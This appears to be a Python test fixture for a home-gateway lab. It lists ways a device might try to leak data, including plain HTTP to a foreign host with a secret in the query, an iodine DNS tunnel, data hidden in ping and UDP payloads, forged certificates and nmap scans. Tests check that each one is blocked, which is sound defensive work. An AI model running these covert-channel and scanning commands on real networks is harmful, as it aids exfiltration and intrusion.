"""Ways out that a device may try, each with the real tool for it. The demo shows them; tests hold every one of them shut."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.home.client import MEDIA_TYPE, Here
from tests.home.lab import layout

# What the kernel says of a device that is not a standard one, whatever it tries by TCP.
BY_KIND = {"local": ("local-only",), "unknown": ("unknown-device",)}


@dataclass(frozen=True)
class Scene:
    """One try. ``argv`` makes the command for a device; ``reasons``: any of these must be counted for a standard device.

    ``everyone``: the kernel gives the same reason whatever the kind (otherwise BY_KIND holds).
    """

    title: str
    argv: Callable[[Here, int], list[str]]
    reasons: tuple[str, ...]
    local: tuple[str, ...] = field(default=BY_KIND["local"])
    unknown: tuple[str, ...] = field(default=BY_KIND["unknown"])
    timeout: float = 6.0

    def expected(self, kind: str) -> tuple[str, ...]:
        """The reasons of which one must be counted for a device of ``kind``."""
        return {"local": self.local, "unknown": self.unknown}.get(kind, self.reasons)


def _curl(*words: str) -> list[str]:
    return ["curl", "-sS", "-m", "3", *words]


def _with_papers(*words: str) -> list[str]:
    papers = ["--cacert", "ca.pem", "--cert", "cert.pem", "--key", "key.pem", "-H", f"Content-Type: {MEDIA_TYPE}"]
    return _curl(*papers, *words)


def _pool(here: Here, number: int) -> str:
    """The address under which devices find the host of this device's URL (given out or not)."""
    registry = json.loads((layout.STATE / "state" / "registry.json").read_text())
    address: str = registry["pool"][here.host(number)]["v4"]
    return address


def _to_pool(here: Here, number: int) -> list[str]:
    """Names are resolved by hand, so that devices to which the resolver gives no address try all the same."""
    return ["--resolve", f"{here.host(number)}:443:{_pool(here, number)}"]


def _extra_field(here: Here, number: int) -> list[str]:
    envelope = json.loads((here.folder(number) / "message.json").read_text())
    envelope["payload"]["tracking"] = "c2VjcmV0IHNlY3JldCBzZWNyZXQ="
    return _with_papers(*_to_pool(here, number), "--data", json.dumps(envelope), here.url(number))


NONE = ("local-only", "unknown-device")

SCENES = (
    Scene("plain HTTP to a foreign address", lambda h, n: _curl(f"http://{layout.FOREIGN4}/collect?secret=1"), ("not-tls",)),
    Scene("plain HTTP over IPv6", lambda h, n: _curl(f"http://[{layout.FOREIGN6}]/collect?secret=1"), ("not-tls",)),
    Scene("HTTPS to an IP address", lambda h, n: _curl("-k", f"https://{layout.FOREIGN4}/"), ("sni-missing",)),
    Scene(
        "HTTPS without a server name",
        lambda h, n: ["openssl", "s_client", "-noservername", "-connect", f"{_pool(h, n)}:443"],
        ("sni-missing",),
    ),
    Scene(
        "HTTPS to a tracker",
        lambda h, n: _curl("-k", "--resolve", f"tracker.example:443:{_pool(h, n)}", "https://tracker.example/"),
        ("sni-not-approved",),
    ),
    Scene(
        "an approved name at another address",
        lambda h, n: _curl("-k", "--resolve", f"{h.host(n)}:443:{layout.FOREIGN4}", h.url(n)),
        ("address-mismatch",),
    ),
    Scene(
        "a Host that differs from the server name",
        lambda h, n: _with_papers(*_to_pool(h, n), "-H", "Host: tracker.example", "--data", "@message.json", h.url(n)),
        ("http-host",),
    ),
    Scene(
        "no device certificate",
        lambda h, n: _curl("--cacert", "ca.pem", *_to_pool(h, n), "--data", "@message.json", h.url(n)),
        ("certificate-missing",),
    ),
    Scene(
        "a self-signed device certificate",
        lambda h, n: [
            *_curl("--cacert", "ca.pem", "--cert", "forged.pem", "--key", "forged.key", *_to_pool(h, n)),
            "--data",
            "@message.json",
            h.url(n),
        ],
        ("certificate-untrusted",),
    ),
    Scene(
        "a revoked device certificate",
        lambda h, n: [
            *_curl("--cacert", "ca.pem", "--cert", "revoked.pem", "--key", "revoked.key", *_to_pool(h, n)),
            "-H",
            f"Content-Type: {MEDIA_TYPE}",
            "--data",
            "@message.json",
            h.url(n),
        ],
        ("certificate-revoked",),
    ),
    Scene("a field that the manifest does not declare", _extra_field, ("not-declared",)),
    Scene("QUIC", lambda h, n: ["python3", "-m", "tests.home.quic", layout.FOREIGN4], ("quic",), ("quic", "local-only")),
    Scene(
        "encrypted DNS (DoT)",
        lambda h, n: ["kdig", "+tls", "+time=2", "+retry=0", f"@{layout.FOREIGN4}", "tracker.example"],
        ("dot",),
        ("dot", "local-only"),
    ),
    Scene(
        "a foreign name server",
        lambda h, n: ["kdig", "+time=2", "+retry=0", f"@{layout.FOREIGN4}", "secret.tracker.example"],
        ("name-not-approved",),
    ),
    Scene(
        "a tunnel through DNS (iodine)",
        lambda h, n: ["iodine", "-f", "-r", "-P", "secret", "-T", "TXT", layout.DMZ4, "t.tracker.example"],
        ("name-not-approved",),
        ("name-not-approved",),
        ("name-not-approved",),
    ),
    Scene(
        "a ping with data in it",
        lambda h, n: ["ping", "-c", "2", "-W", "1", "-p", "736563726574", layout.FOREIGN4],
        ("foreign-icmp",),
        ("foreign-icmp",),
    ),
    Scene(
        "another time server",
        lambda h, n: ["python3", "-m", "tests.home.datagram", layout.FOREIGN4, "123", "e3" + "00" * 47],
        ("foreign-ntp",),
        ("foreign-ntp",),
    ),
    Scene(
        "other UDP",
        lambda h, n: ["python3", "-m", "tests.home.datagram", layout.FOREIGN4, "4444", b"secret".hex()],
        ("foreign-udp",),
        ("foreign-udp",),
    ),
    Scene(
        "multicast DNS",
        lambda h, n: ["python3", "-m", "tests.home.datagram", "224.0.0.251", "5353", b"secret".hex()],
        ("multicast",),
        ("multicast",),
    ),
    Scene(
        "the laptop on the home network",
        lambda h, n: ["nmap", "-n", "-Pn", "-sT", "--max-retries", "0", "-p", "22,80,443", h.facts["laptop"]["v4"]],
        ("to-lan",),
        ("to-lan",),
        timeout=10,
    ),
    Scene(
        "another device",
        lambda h, n: _curl(f"http://{h.device(2 if n != 2 else 1)['v4']}/"),
        ("to-device",),
        ("to-device",),
    ),
    Scene(
        "the gateway's own ports",
        lambda h, n: ["nmap", "-n", "-Pn", "-sS", "--max-retries", "0", "-p", "22,80,443,8080", layout.DMZ4],
        ("to-gateway",),
        ("to-gateway",),
        timeout=10,
    ),
    Scene(
        "the gateway's address on the internet side",
        lambda h, n: _curl(f"http://{h.facts['gateway']['wan0']['v4']}/"),
        ("to-gateway",),
        ("to-gateway",),
    ),
    Scene(
        "a fragmented packet",
        lambda h, n: ["ping", "-c", "1", "-W", "1", "-s", "3000", layout.FOREIGN4],
        ("fragment",),
        ("fragment",),
        ("fragment",),
    ),
)
